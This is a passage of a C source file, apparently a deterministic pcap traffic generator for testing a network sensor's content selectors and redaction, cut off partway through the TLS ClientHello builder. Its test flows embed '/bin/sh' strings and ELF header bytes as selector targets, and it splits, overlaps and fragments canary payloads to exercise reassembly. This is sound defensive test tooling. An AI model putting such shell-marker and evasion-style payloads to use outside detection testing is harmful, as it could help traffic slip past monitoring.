/*
 * pcapgen.c — acd's own traffic generator (acd-pcapgen): deterministic pcap files for the
 * sensor's tests, the peer-agreement test and the benchmark.
 *
 * Everything is derived from --seed through one xorshift generator carried in the context,
 * so one command line always writes the same bytes. A packet is built back to front in a
 * buffer with headroom: payload, transport header (with a correct checksum), IP header,
 * optional tunnel, link header; then it goes to pcap_dump. Packet times start at
 * 2026-10-09T09:00:00Z and advance a few microseconds (bench) or milliseconds per packet.
 *
 * Address plan (tests/data/prefixes.txt): domestic = 133.0.0.0/8, 2001:db8:1::/48 and the
 * non-global ranges (10/8, 192.168/16, fd00::/8 are used here); foreign = 45.0.0.0/8,
 * 198.51.100.0/24, 203.0.113.0/24, 2001:db8:f::/48. Tunnel outer headers always run between
 * two domestic addresses (133.200.0.1/2, 2001:db8:1:ffff::1/2), so a sensor that classified by
 * the outer header instead of the inner one would drop the inner flows.
 *
 * Scenarios
 *  canary  Every payload kind the sensor must never write carries the canary string, but never
 *          in a field the sensor may extract (DNS query name, TLS SNI, HTTP Host, User-Agent
 *          and method): HTTP GET (path, query, Cookie, response body), HTTP POST body, SMTP
 *          (MAIL FROM, Subject, body, attachment file name), FTP RETR, SIP INVITE (From, SDP),
 *          raw TCP and UDP, ICMP/ICMPv6 echo, DNS TXT answer, TLS session-ticket extension and
 *          application data, SSH after the banners, the canary split across two TCP segments,
 *          a retransmitted segment, overlapping segments, fragmented UDP and ICMP datagrams
 *          (canary in a later fragment; ICMP fragments sent last-first), and "/bin/sh" flows
 *          over TCP and UDP for content selectors. Each in IPv4 and IPv6 and in every
 *          direction (foreign-foreign, foreign-domestic, domestic-foreign, domestic-domestic,
 *          private 10/8 or 192.168/16 <-> domestic); then a subset inside 802.1Q, QinQ, MPLS
 *          (Ethernet link only), GRE, VXLAN, GENEVE and IP-in-IP. --packets N repeats the set
 *          with fresh addresses until at least N packets are written.
 *  sample  --flows flows (default 300), one name per flow, unique 5-tuples: 35% DNS over UDP
 *          (A/AAAA query and answer; port 53, 10% 5353, 10% 8053), 5% DNS over TCP (53, 8053),
 *          30% TLS (complete ClientHello with SNI, TLS 1.2 or 1.3 style, GREASE in half, then a
 *          ServerHello; port 443, 10% 8443, 10% 9999), 30% HTTP/1.1 GET or POST with Host and
 *          User-Agent and a response (port 80, 10% 8080, 10% 31337; Host carries ":port" off
 *          port 80). Names mix case and punycode labels. 30% IPv6; about 15% domestic-domestic.
 *  bench   --packets (default 1,000,000) over --flows (default 15% of packets, 150,000), sent in
 *          rounds: every flow sends its first packet before any flow sends its second, so all
 *          flows are open at once. TCP 70% (SYN, SYN-ACK, data, FIN, FIN-ACK), UDP 27%, ICMP
 *          3%; IP sizes about 7:4:1 of 40-64, 576 and 1500 bytes. Plain flows are 25%
 *          domestic-domestic, 30% foreign-foreign, 25% foreign-domestic, 20% domestic-foreign;
 *          of the TCP ones 25% open with a TLS ClientHello (innocent SNI) and 15% with an HTTP
 *          request, of the UDP ones 40% are DNS. Selectable flows, 5.0% of all flows, always
 *          with a foreign end: 1.5% have their foreign end in 203.0.113.0/24 or
 *          2001:db8:f:66::/64, 1.0% a TLS SNI and 1.0% an HTTP Host under bench-bad.example,
 *          1.0% carry "/bin/sh" and 0.5% "\x7fELF\x02\x01\x01" in their first payload.
 *
 * At the end it prints on stderr the packets, flows and bytes written (and, for bench, the
 * measured proportions).
 */
#include <errno.h>
#include <getopt.h>
#include <inttypes.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <pcap/pcap.h>

#include "ipaddr.h"

#define PKT_HEADROOM   256
#define PKT_MAX        16384
#define TEXT_MAX       8192
#define NOISE_LEN      65536
#define BASE_TIME_US   1791536400000000ULL /* 2026-10-09T09:00:00Z */
#define TCP_MSS        1400
#define DEFAULT_CANARY "CANARY-7f3a9c1e-SECRET"

enum {
	TH_FIN = 0x01,
	TH_SYN = 0x02,
	TH_RST = 0x04,
	TH_PSH = 0x08,
	TH_ACK = 0x10,
};

enum scenario { SC_NONE, SC_CANARY, SC_SAMPLE, SC_BENCH };

enum encap {
	ENCAP_NONE,
	ENCAP_VLAN,
	ENCAP_QINQ,
	ENCAP_MPLS,
	ENCAP_GRE,
	ENCAP_VXLAN,
	ENCAP_GENEVE,
	ENCAP_IPIP,
	ENCAP_COUNT,
};

/* Who talks to whom, initiator first. */
enum dirkind { DIR_FF, DIR_FD, DIR_DF, DIR_DD, DIR_DD_PRIVATE, DIR_COUNT };

enum zone { ZONE_FOREIGN, ZONE_TARGET, ZONE_DOMESTIC, ZONE_PRIVATE };

struct options {
	enum scenario scenario;
	const char *out;
	uint64_t seed;
	uint64_t packets; /* 0: the scenario's default */
	uint64_t flows;   /* 0: the scenario's default */
	const char *canary;
	int dlt;
};

/* A packet under construction: bytes live in buf[off, off + len). */
struct pkt {
	uint8_t buf[PKT_HEADROOM + PKT_MAX];
	size_t off, len;
};

struct endpoint {
	struct ip_addr ip;
	uint16_t port;
};

/* One conversation's addresses, transport and encapsulation; client = initiator. */
struct path {
	struct endpoint client, server;
	uint8_t proto;
	enum encap encap;
};

struct tcp_conn {
	struct path p;
	uint32_t seq[2]; /* next sequence number to send: [0] client, [1] server */
};

/* The generator's whole state; main owns it. */
struct gen {
	struct options opt;
	pcap_t *pcap;
	pcap_dumper_t *dumper;
	uint64_t rng;
	uint64_t ts_us;
	uint32_t gap_min_us, gap_max_us;
	uint16_t ip_id;
	uint16_t next_port;
	uint64_t packets, flows;
	struct pkt pkt;
	uint8_t text[TEXT_MAX];   /* payload being composed */
	uint8_t frag[PKT_MAX];    /* a datagram being cut into fragments */
	uint8_t noise[NOISE_LEN]; /* random filler for bench payloads */
};

/* ---- small helpers ------------------------------------------------------------------------ */

static uint64_t rnd(struct gen *g)
{
	uint64_t x = g->rng;
	x ^= x >> 12;
	x ^= x << 25;
	x ^= x >> 27;
	g->rng = x;
	return x * 0x2545F4914F6CDD1DULL;
}

/* Uniform enough below n (n small against 2^64). */
static uint32_t rnd_below(struct gen *g, uint32_t n)
{
	return (uint32_t)((rnd(g) >> 11) % n);
}

static bool chance(struct gen *g, unsigned percent)
{
	return rnd_below(g, 100) < percent;
}

static void put16(uint8_t *p, uint16_t v)
{
	p[0] = (uint8_t)(v >> 8);
	p[1] = (uint8_t)v;
}

static void put32(uint8_t *p, uint32_t v)
{
	p[0] = (uint8_t)(v >> 24);
	p[1] = (uint8_t)(v >> 16);
	p[2] = (uint8_t)(v >> 8);
	p[3] = (uint8_t)v;
}

static void fill_random(struct gen *g, uint8_t *p, size_t n)
{
	for (size_t i = 0; i < n; i++)
		p[i] = (uint8_t)(rnd(g) >> 56);
}

/* Copies tmpl into g->text with every "{C}" replaced by the canary; returns the length. */
static size_t expand(struct gen *g, const char *tmpl)
{
	size_t n = 0, clen = strlen(g->opt.canary);
	for (const char *s = tmpl; *s; s++) {
		if (strncmp(s, "{C}", 3) == 0 && n + clen < TEXT_MAX) {
			memcpy(g->text + n, g->opt.canary, clen);
			n += clen;
			s += 2;
		} else if (n + 1 < TEXT_MAX) {
			g->text[n++] = (uint8_t)*s;
		}
	}
	return n;
}

/* printf into g->text; returns the length (cut at TEXT_MAX - 1). */
static size_t textf(struct gen *g, const char *fmt, ...)
{
	va_list ap;
	va_start(ap, fmt);
	int n = vsnprintf((char *)g->text, TEXT_MAX, fmt, ap);
	va_end(ap);
	if (n < 0)
		return 0;
	return (size_t)n < TEXT_MAX ? (size_t)n : TEXT_MAX - 1;
}

/* ---- a bounded byte writer for binary messages (TLS, DNS) --------------------------------- */

/* Writes past cap are counted but not stored; the caller checks len <= cap. */
struct wbuf {
	uint8_t *p;
	size_t len, cap;
};

static void w_bytes(struct wbuf *w, const void *d, size_t n)
{
	if (w->len + n <= w->cap && n > 0)
		memcpy(w->p + w->len, d, n);
	w->len += n;
}

static void w_u8(struct wbuf *w, uint8_t v)
{
	w_bytes(w, &v, 1);
}

static void w_u16(struct wbuf *w, uint16_t v)
{
	uint8_t b[2];
	put16(b, v);
	w_bytes(w, b, 2);
}

static void w_zero(struct wbuf *w, size_t n)
{
	static const uint8_t zeros[64];
	while (n > 0) {
		size_t k = n < sizeof(zeros) ? n : sizeof(zeros);
		w_bytes(w, zeros, k);
		n -= k;
	}
}

static void w_random(struct wbuf *w, struct gen *g, size_t n)
{
	for (size_t i = 0; i < n; i++)
		w_u8(w, (uint8_t)(rnd(g) >> 56));
}

/* Starts a length-prefixed block of `width` bytes; w_close fills the length in. */
static size_t w_open(struct wbuf *w, size_t width)
{
	size_t at = w->len;
	w_zero(w, width);
	return at;
}

static void w_close(struct wbuf *w, size_t at, size_t width)
{
	size_t n = w->len - at - width;
	if (at + width > w->cap)
		return;
	for (size_t i = 0; i < width; i++)
		w->p[at + i] = (uint8_t)(n >> (8 * (width - 1 - i)));
}

/* ---- checksums ---------------------------------------------------------------------------- */

static uint32_t csum_add(uint32_t sum, const uint8_t *p, size_t n)
{
	uint64_t s = sum;
	size_t i = 0;
	for (; i + 4 <= n; i += 4)
		s += ((uint32_t)p[i] << 8 | p[i + 1]) + ((uint32_t)p[i + 2] << 8 | p[i + 3]);
	for (; i + 2 <= n; i += 2)
		s += (uint32_t)p[i] << 8 | p[i + 1];
	if (i < n)
		s += (uint32_t)p[i] << 8;
	while (s >> 32)
		s = (s & 0xffffffffu) + (s >> 32);
	return (uint32_t)s;
}

static uint16_t csum_fold(uint32_t sum)
{
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return (uint16_t)~sum;
}

/* TCP, UDP and ICMPv6 checksum over the pseudo-header and the segment. */
static uint16_t l4_checksum(const struct ip_addr *src, const struct ip_addr *dst, uint8_t proto,
                            const uint8_t *seg, size_t len)
{
	size_t alen = src->family == 4 ? 4 : 16;
	uint32_t sum = csum_add(0, src->b, alen);
	sum = csum_add(sum, dst->b, alen);
	sum = csum_add(sum, (const uint8_t[]){0, proto}, 2);
	sum = csum_add(sum,
	               (const uint8_t[]){(uint8_t)(len >> 24), (uint8_t)(len >> 16),
	                                 (uint8_t)(len >> 8), (uint8_t)len},
	               4);
	return csum_fold(csum_add(sum, seg, len));
}

/* ---- packet buffer ------------------------------------------------------------------------ */

static void pkt_reset(struct pkt *k)
{
	k->off = PKT_HEADROOM;
	k->len = 0;
}

/* Headroom is sized for the deepest stack built here (link + tunnel + IPv6 + fragment + TCP). */
static uint8_t *pkt_prepend(struct pkt *k, size_t n)
{
	if (n > k->off) {
		fprintf(stderr, "acd-pcapgen: internal error: headroom exhausted\n");
		exit(1);
	}
	k->off -= n;
	k->len += n;
	return k->buf + k->off;
}

static void pkt_append(struct pkt *k, const void *data, size_t n)
{
	if (k->off + k->len + n > sizeof(k->buf)) {
		fprintf(stderr, "acd-pcapgen: internal error: packet too long\n");
		exit(1);
	}
	if (n > 0)
		memcpy(k->buf + k->off + k->len, data, n);
	k->len += n;
}

/* ---- headers ------------------------------------------------------------------------------ */

static void push_ipv4(struct pkt *k, const struct ip_addr *src, const struct ip_addr *dst,
                      uint8_t proto, uint16_t id, uint16_t frag)
{
	uint8_t *h = pkt_prepend(k, 20);
	h[0] = 0x45;
	h[1] = 0;
	put16(h + 2, (uint16_t)k->len);
	put16(h + 4, id);
	put16(h + 6, frag);
	h[8] = 64;
	h[9] = proto;
	put16(h + 10, 0);
	memcpy(h + 12, src->b, 4);
	memcpy(h + 16, dst->b, 4);
	put16(h + 10, csum_fold(csum_add(0, h, 20)));
}

static void push_ipv6(struct pkt *k, const struct ip_addr *src, const struct ip_addr *dst,
                      uint8_t next)
{
	size_t plen = k->len;
	uint8_t *h = pkt_prepend(k, 40);
	put32(h, 0x60000000);
	put16(h + 4, (uint16_t)plen);
	h[6] = next;
	h[7] = 64;
	memcpy(h + 8, src->b, 16);
	memcpy(h + 24, dst->b, 16);
}

static void push_frag6(struct pkt *k, uint8_t next, size_t offset, bool more, uint32_t id)
{
	uint8_t *h = pkt_prepend(k, 8);
	h[0] = next;
	h[1] = 0;
	put16(h + 2, (uint16_t)(offset | (more ? 1 : 0)));
	put32(h + 4, id);
}

struct tcp_args {
	uint16_t sport, dport;
	uint32_t seq, ack;
	uint8_t flags;
};

/* SYNs carry an MSS option, as every real stack sends one. */
static void push_tcp(struct pkt *k, const struct ip_addr *src, const struct ip_addr *dst,
                     const struct tcp_args *t)
{
	bool syn = t->flags & TH_SYN;
	size_t hl = syn ? 24 : 20;
	uint8_t *h = pkt_prepend(k, hl);
	put16(h, t->sport);
	put16(h + 2, t->dport);
	put32(h + 4, t->seq);
	put32(h + 8, t->ack);
	h[12] = (uint8_t)((hl / 4) << 4);
	h[13] = t->flags;
	put16(h + 14, 64240);
	put16(h + 16, 0);
	put16(h + 18, 0);
	if (syn) {
		h[20] = 2;
		h[21] = 4;
		put16(h + 22, src->family == 4 ? 1460 : 1440);
	}
	put16(h + 16, l4_checksum(src, dst, 6, h, k->len));
}

static void push_udp(struct pkt *k, const struct ip_addr *src, const struct ip_addr *dst,
                     uint16_t sport, uint16_t dport)
{
	uint8_t *h = pkt_prepend(k, 8);
	put16(h, sport);
	put16(h + 2, dport);
	put16(h + 4, (uint16_t)k->len);
	put16(h + 6, 0);
	uint16_t c = l4_checksum(src, dst, 17, h, k->len);
	put16(h + 6, c ? c : 0xffff);
}

/* ICMP echo (IPv4) or ICMPv6 echo: the type decides, the family picks the checksum. */
static void push_icmp_echo(struct pkt *k, const struct ip_addr *src, const struct ip_addr *dst,
                           bool reply, uint16_t id, uint16_t seq)
{
	bool v6 = src->family == 6;
	uint8_t *h = pkt_prepend(k, 8);
	h[0] = v6 ? (reply ? 129 : 128) : (reply ? 0 : 8);
	h[1] = 0;
	put16(h + 2, 0);
	put16(h + 4, id);
	put16(h + 6, seq);
	put16(h + 2, v6 ? l4_checksum(src, dst, 58, h, k->len) : csum_fold(csum_add(0, h, k->len)));
}

/* ---- tunnels and link layer ---------------------------------------------------------------- */

static void tunnel_ends(int family, bool from_client, struct ip_addr *src, struct ip_addr *dst)
{
	uint8_t a[16] = {0}, b[16] = {0};
	if (family == 4) {
		memcpy(a, (const uint8_t[]){133, 200, 0, 1}, 4);
		memcpy(b, (const uint8_t[]){133, 200, 0, 2}, 4);
		ipaddr_set4(src, from_client ? a : b);
		ipaddr_set4(dst, from_client ? b : a);
		return;
	}
	const uint8_t pre[8] = {0x20, 0x01, 0x0d, 0xb8, 0x00, 0x01, 0xff, 0xff};
	memcpy(a, pre, 8);
	memcpy(b, pre, 8);
	a[15] = 1;
	b[15] = 2;
	ipaddr_set6(src, from_client ? a : b);
	ipaddr_set6(dst, from_client ? b : a);
}

static void push_outer_ip(struct gen *g, struct pkt *k, int family, uint8_t proto, bool from_client)
{
	struct ip_addr src, dst;
	tunnel_ends(family, from_client, &src, &dst);
	if (family == 4)
		push_ipv4(k, &src, &dst, proto, g->ip_id++, 0);
	else
		push_ipv6(k, &src, &dst, proto);
}

static uint16_t ethertype_of(int family)
{
	return family == 4 ? 0x0800 : 0x86dd;
}

static void push_ether(struct pkt *k, uint16_t type, bool from_client)
{
	static const uint8_t mac_c[6] = {0x02, 0xac, 0xd0, 0x00, 0x00, 0x01};
	static const uint8_t mac_s[6] = {0x02, 0xac, 0xd0, 0x00, 0x00, 0x02};
	uint8_t *h = pkt_prepend(k, 14);
	memcpy(h, from_client ? mac_s : mac_c, 6);
	memcpy(h + 6, from_client ? mac_c : mac_s, 6);
	put16(h + 12, type);
}

/* VXLAN and GENEVE carry Ethernet frames; the UDP source port stands for the inner flow. */
static void push_udp_tunnel(struct gen *g, struct pkt *k, bool geneve, int inner, int outer,
                            bool from_client)
{
	push_ether(k, ethertype_of(inner), from_client);
	uint8_t *h = pkt_prepend(k, 8);
	memset(h, 0, 8);
	if (geneve)
		put16(h + 2, 0x6558);
	else
		h[0] = 0x08;
	put32(h + 4, 4242u << 8);
	struct ip_addr src, dst;
	tunnel_ends(outer, from_client, &src, &dst);
	push_udp(k, &src, &dst, (uint16_t)(49152 + (g->ip_id & 0x3fff)), geneve ? 6081 : 4789);
	push_outer_ip(g, k, outer, 17, from_client);
}

/* Wraps the IP packet in k into its tunnel; returns the family of the outermost IP header.
 * IP-in-IP always runs over IPv4 (4in4, 6in4); the UDP tunnels and GRE keep the inner family. */
static int push_tunnel(struct gen *g, struct pkt *k, enum encap e, int family, bool from_client)
{
	switch (e) {
	case ENCAP_GRE: {
		uint8_t *h = pkt_prepend(k, 4);
		put16(h, 0);
		put16(h + 2, ethertype_of(family));
		push_outer_ip(g, k, family, 47, from_client);
		return family;
	}
	case ENCAP_VXLAN:
	case ENCAP_GENEVE:
		push_udp_tunnel(g, k, e == ENCAP_GENEVE, family, family, from_client);
		return family;
	case ENCAP_IPIP:
		push_outer_ip(g, k, 4, family == 4 ? 4 : 41, from_client);
		return 4;
	default:
		return family;
	}
}

static void push_vlan(struct pkt *k, uint16_t tpid_inner, uint16_t vid)
{
	uint8_t *h = pkt_prepend(k, 4);
	put16(h, vid);
	put16(h + 2, tpid_inner);
}

/* 802.1Q, QinQ and MPLS exist only on the Ethernet link; other link types get the bare frame. */
static void push_link(struct gen *g, struct pkt *k, enum encap e, int family, bool from_client)
{
	uint16_t type = ethertype_of(family);
	if (g->opt.dlt == DLT_EN10MB) {
		if (e == ENCAP_VLAN || e == ENCAP_QINQ) {
			push_vlan(k, type, 100);
			type = 0x8100;
		}
		if (e == ENCAP_QINQ) {
			push_vlan(k, type, 200);
			type = 0x88a8;
		}
		if (e == ENCAP_MPLS) {
			uint8_t *h = pkt_prepend(k, 8);
			put32(h, (16000u << 12) | 64);              /* outer label, not bottom */
			put32(h + 4, (17u << 12) | (1u << 8) | 64); /* bottom of stack */
			type = 0x8847;
		}
		push_ether(k, type, from_client);
		return;
	}
	if (g->opt.dlt == DLT_LINUX_SLL) {
		uint8_t *h = pkt_prepend(k, 16);
		memset(h, 0, 16);
		put16(h, from_client ? 4 : 0); /* outgoing / to us */
		put16(h + 2, 1);               /* ARPHRD_ETHER */
		put16(h + 4, 6);
		memcpy(h + 6, (const uint8_t[]){0x02, 0xac, 0xd0, 0, 0, from_client ? 1 : 2}, 6);
		put16(h + 14, type);
		return;
	}
	if (g->opt.dlt == DLT_LINUX_SLL2) {
		uint8_t *h = pkt_prepend(k, 20);
		memset(h, 0, 20);
		put16(h, type);
		put32(h + 4, 2); /* interface index */
		put16(h + 8, 1); /* ARPHRD_ETHER */
		h[10] = from_client ? 4 : 0;
		h[11] = 6;
		memcpy(h + 12, (const uint8_t[]){0x02, 0xac, 0xd0, 0, 0, from_client ? 1 : 2}, 6);
	}
	/* DLT_RAW: the IP header starts the frame. */
}

static void write_frame(struct gen *g, const struct pkt *k)
{
	struct pcap_pkthdr h;
	g->ts_us += g->gap_min_us + rnd_below(g, g->gap_max_us - g->gap_min_us + 1);
	h.ts.tv_sec = (time_t)(g->ts_us / 1000000);
	h.ts.tv_usec = (suseconds_t)(g->ts_us % 1000000);
	h.caplen = h.len = (bpf_u_int32)k->len;
	pcap_dump((u_char *)g->dumper, &h, k->buf + k->off);
	g->packets++;
}

/* Tunnel, link header, write: everything after the (inner) IP header is in place. */
static void emit(struct gen *g, const struct path *p, bool from_client, struct pkt *k, int family)
{
	int outer = push_tunnel(g, k, p->encap, family, from_client);
	push_link(g, k, p->encap, outer, from_client);
	write_frame(g, k);
}

static void ends(const struct path *p, bool from_client, const struct endpoint **src,
                 const struct endpoint **dst)
{
	*src = from_client ? &p->client : &p->server;
	*dst = from_client ? &p->server : &p->client;
}

/* Puts the IP header in front of the transport bytes in k and sends the packet. */
static void send_l4(struct gen *g, const struct path *p, bool from_client, struct pkt *k)
{
	const struct endpoint *s, *d;
	ends(p, from_client, &s, &d);
	if (s->ip.family == 4)
		push_ipv4(k, &s->ip, &d->ip, p->proto, g->ip_id++, p->proto == 6 ? 0x4000 : 0);
	else
		push_ipv6(k, &s->ip, &d->ip, p->proto);
	emit(g, p, from_client, k, s->ip.family);
}

/* Cuts the transport datagram in k into fragments of `chunk` bytes (a multiple of 8); with
 * `reverse` the last fragment goes first, as reassembly must cope with either order. */
static void send_fragments(struct gen *g, const struct path *p, bool from_client, struct pkt *k,
                           size_t chunk, bool reverse)
{
	const struct endpoint *s, *d;
	ends(p, from_client, &s, &d);
	size_t total = k->len, count = (total + chunk - 1) / chunk;
	memcpy(g->frag, k->buf + k->off, total);
	uint16_t id4 = g->ip_id++;
	uint32_t id6 = (uint32_t)rnd(g);
	for (size_t i = 0; i < count; i++) {
		size_t off = (reverse ? count - 1 - i : i) * chunk;
		size_t n = total - off < chunk ? total - off : chunk;
		bool more = off + n < total;
		pkt_reset(k);
		pkt_append(k, g->frag + off, n);
		if (s->ip.family == 4) {
			push_ipv4(k, &s->ip, &d->ip, p->proto, id4,
			          (uint16_t)((off / 8) | (more ? 0x2000 : 0)));
		} else {
			push_frag6(k, p->proto, off, more, id6);
			push_ipv6(k, &s->ip, &d->ip, 44);
		}
		emit(g, p, from_client, k, s->ip.family);
	}
}

/* ---- transport conversations -------------------------------------------------------------- */

static void tcp_segment(struct gen *g, struct tcp_conn *c, bool from_client, uint32_t seq,
                        uint8_t flags, const void *data, size_t len)
{
	const struct endpoint *s, *d;
	ends(&c->p, from_client, &s, &d);
	int me = from_client ? 0 : 1;
	struct tcp_args t = {s->port, d->port, seq, (flags & TH_ACK) ? c->seq[1 - me] : 0, flags};
	struct pkt *k = &g->pkt;
	pkt_reset(k);
	pkt_append(k, data, len);
	push_tcp(k, &s->ip, &d->ip, &t);
	send_l4(g, &c->p, from_client, k);
}

static void tcp_open(struct gen *g, struct tcp_conn *c)
{
	c->p.proto = 6;
	c->seq[0] = (uint32_t)rnd(g);
	c->seq[1] = (uint32_t)rnd(g);
	tcp_segment(g, c, true, c->seq[0]++, TH_SYN, NULL, 0);
	tcp_segment(g, c, false, c->seq[1]++, TH_SYN | TH_ACK, NULL, 0);
	tcp_segment(g, c, true, c->seq[0], TH_ACK, NULL, 0);
	g->flows++;
}

/* Data in MSS-sized segments, each acknowledged by the peer. */
static void tcp_send(struct gen *g, struct tcp_conn *c, bool from_client, const void *data,
                     size_t len)
{
	const uint8_t *p = data;
	int me = from_client ? 0 : 1;
	for (size_t off = 0; off < len; off += TCP_MSS) {
		size_t n = len - off < TCP_MSS ? len - off : TCP_MSS;
		tcp_segment(g, c, from_client, c->seq[me], TH_PSH | TH_ACK, p + off, n);
		c->seq[me] += (uint32_t)n;
		tcp_segment(g, c, !from_client, c->seq[1 - me], TH_ACK, NULL, 0);
	}
}

static void tcp_close(struct gen *g, struct tcp_conn *c)
{
	tcp_segment(g, c, true, c->seq[0]++, TH_FIN | TH_ACK, NULL, 0);
	tcp_segment(g, c, false, c->seq[1]++, TH_FIN | TH_ACK, NULL, 0);
	tcp_segment(g, c, true, c->seq[0], TH_ACK, NULL, 0);
}

static void udp_send(struct gen *g, const struct path *p, bool from_client, const void *data,
                     size_t len)
{
	const struct endpoint *s, *d;
	ends(p, from_client, &s, &d);
	struct pkt *k = &g->pkt;
	pkt_reset(k);
	pkt_append(k, data, len);
	push_udp(k, &s->ip, &d->ip, s->port, d->port);
	send_l4(g, p, from_client, k);
}

static void icmp_send(struct gen *g, const struct path *p, bool reply, uint16_t seq,
                      const void *data, size_t len)
{
	const struct endpoint *s, *d;
	ends(p, !reply, &s, &d);
	struct pkt *k = &g->pkt;
	pkt_reset(k);
	pkt_append(k, data, len);
	push_icmp_echo(k, &s->ip, &d->ip, reply, p->client.port, seq);
	send_l4(g, p, !reply, k);
}

/* ---- addresses ---------------------------------------------------------------------------- */

static void pick_addr(struct gen *g, enum zone z, int family, struct ip_addr *a)
{
	uint8_t b[16] = {0};
	uint64_t r = rnd(g);
	if (family == 4) {
		static const uint8_t pre[][3] = {
		        [ZONE_FOREIGN] = {45, 0, 0},
		        [ZONE_TARGET] = {203, 0, 113},
		        [ZONE_DOMESTIC] = {133, 0, 0},
		        [ZONE_PRIVATE] = {10, 0, 0},
		};
		memcpy(b, pre[z], 3);
		b[1] = z == ZONE_TARGET ? 0 : (uint8_t)(r >> 8);
		b[2] = z == ZONE_TARGET ? 113 : (uint8_t)(r >> 16);
		b[3] = (uint8_t)(1 + (r >> 24) % 254);
		if (z == ZONE_FOREIGN && (r >> 40) % 16 == 0)
			memcpy(b, (const uint8_t[]){198, 51, 100}, 3);
		if (z == ZONE_PRIVATE && (r >> 40) % 2 == 0)
			memcpy(b, (const uint8_t[]){192, 168}, 2);
		ipaddr_set4(a, b);
		return;
	}
	uint16_t subnet = (uint16_t)(r >> 48);
	memcpy(b, (const uint8_t[]){0x20, 0x01, 0x0d, 0xb8, 0x00, 0x0f}, 6);
	if (z == ZONE_DOMESTIC)
		b[5] = 0x01;
	if (z == ZONE_TARGET)
		subnet = 0x66;
	else if (z == ZONE_FOREIGN && subnet == 0x66)
		subnet = 0x67; /* 2001:db8:f:66::/64 is reserved for ip-selector targets */
	put16(b + 6, subnet);
	uint64_t iid = rnd(g) | 1;
	for (int i = 0; i < 8; i++)
		b[8 + i] = (uint8_t)(iid >> (8 * (7 - i)));
	if (z == ZONE_PRIVATE) {
		b[0] = 0xfd;
		b[1] = 0x00;
	}
	ipaddr_set6(a, b);
}

static uint16_t ephemeral_port(struct gen *g)
{
	if (g->next_port < 32768)
		g->next_port = 32768;
	return g->next_port++;
}

/* Fills client and server addresses for a direction kind; ports: ephemeral client, server 0. */
static void pick_path(struct gen *g, enum dirkind d, int family, enum encap e, struct path *p)
{
	static const enum zone zones[DIR_COUNT][2] = {
	        [DIR_FF] = {ZONE_FOREIGN, ZONE_FOREIGN},
	        [DIR_FD] = {ZONE_FOREIGN, ZONE_DOMESTIC},
	        [DIR_DF] = {ZONE_DOMESTIC, ZONE_FOREIGN},
	        [DIR_DD] = {ZONE_DOMESTIC, ZONE_DOMESTIC},
	        [DIR_DD_PRIVATE] = {ZONE_PRIVATE, ZONE_DOMESTIC},
	};
	bool flip = d == DIR_DD_PRIVATE && chance(g, 50);
	memset(p, 0, sizeof(*p));
	pick_addr(g, zones[d][flip ? 1 : 0], family, &p->client.ip);
	pick_addr(g, zones[d][flip ? 0 : 1], family, &p->server.ip);
	p->client.port = ephemeral_port(g);
	p->encap = e;
}

/* ---- application messages ----------------------------------------------------------------- */

static uint16_t grease(struct gen *g)
{
	uint16_t x = (uint16_t)rnd_below(g, 16);
	return (uint16_t)(x << 12 | 0x0a00 | x << 4 | 0x0a);
}

struct hello_opts {
	const char *sni; /* NULL: no server_name extension */
	bool tls13, grease, alpn;
	const uint8_t *ticket; /* session_ticket extension data */
	size_t ticket_len;
	size_t pad; /* bytes of padding extension data; SIZE_MAX: none */
};

static void hello_sni(struct wbuf *w, const char *sni)
{
	size_t n = strlen(sni);
	w_u16(w, 0);
	size_t ext = w_open(w, 2), list = w_open(w, 2);
	w_u8(w, 0);
	w_u16(w, (uint16_t)n);
	w_bytes(w, sni, n);
	w_close(w, list, 2);
	w_close(w, ext, 2);
}

/* A list extension: type, then a `width`-byte length around 16-bit values. */
static void hello_list16(struct wbuf *w, uint16_t type, size_t width, uint16_t first,
                         const uint16_t *v, size_t n)
{
	w_u16(w, type);
	size_t ext = w_open(w, 2), list = w_open(w, width);
	if (first)
		w_u16(w, first);
	for (size_t i = 0; i < n; i++)
		w_u16(w, v[i]);
	w_close(w, list, width);
	w_close(w, ext, 2);
}

static void hello_key_share(struct wbuf *w, struct gen *g, uint16_t grease_group)
{
	w_u16(w, 51);
	size_t ext = w_open(w, 2), list = w_open(w, 2);
	if (grease_group) {
		w_u16(w, grease_group);
		w_u16(w, 1);
		w_u8(w, 0);
	}
	w_u16(w, 0x001d);
	w_u16(w, 32);
	w_random(w, g, 32);
	w_close(w, list, 2);
	w_close(w, ext, 2);
}

static void hello_extensions(struct wbuf *w, struct gen *g, const struct hello_opts *o)
{
	static const uint16_t groups[] = {0x001d, 0x0017, 0x0018};
	static const uint16_t sigalgs[] = {0x0403, 0x0804, 0x0401, 0x0503,
	                                   0x0805, 0x0501, 0x0806, 0x0601};
	static const uint16_t versions[] = {0x0304, 0x0303};
	uint16_t gr = o->grease ? grease(g) : 0;
	if (gr) {
		w_u16(w, gr);
		w_u16(w, 0);
	}
	if (o->sni)
		hello_sni(w, o->sni);
	w_bytes(w, (const uint8_t[]){0, 23, 0, 0, 0xff, 0x01, 0, 1, 0}, 9); /* EMS, reneg */
	hello_list16(w, 10, 2, o->grease ? grease(g) : 0, groups, 3);
	w_bytes(w, (const uint8_t[]){0, 11, 0, 2, 1, 0}, 6); /* ec_point_formats */
	w_u16(w, 35);
	size_t t = w_open(w, 2);
	w_bytes(w, o->ticket, o->ticket_len);
	w_close(w, t, 2);
	if (o->alpn)
		w_bytes(w,
		        (const uint8_t[]){0, 16, 0, 14, 0, 12, 2, 'h', '2', 8, 'h', 't', 't', 'p',
		                          '/', '1', '.', '1'},
		        18);
	w_bytes(w, (const uint8_t[]){0, 5, 0, 5, 1, 0, 0, 0, 0}, 9); /* status_request */
	hello_list16(w, 13, 2, 0, sigalgs, 8);
	w_bytes(w, (const uint8_t[]){0, 18, 0, 0}, 4); /* signed_certificate_timestamp */
	if (o->tls13) {
		hello_key_share(w, g, o->grease ? grease(g) : 0);
		w_bytes(w, (const uint8_t[]){0, 45, 0, 2, 1, 1}, 6); /* psk_key_exchange_modes */
		w_u16(w, 43);
		size_t ext = w_open(w, 2), list = w_open(w, 1);
		if (o->grease)
			w_u16(w, grease(g));
		w_bytes(w, (const uint8_t[]){versions[0] >> 8, versions[0] & 0xff, 3, 3}, 4);
		w_close(w, list, 1);
		w_close(w, ext, 2);
	}
	if (gr) {
		w_u16(w, (uint16_t)(gr ^ 0x1010));
		w_bytes(w, (const uint8_t[]){0, 1, 0}, 3);
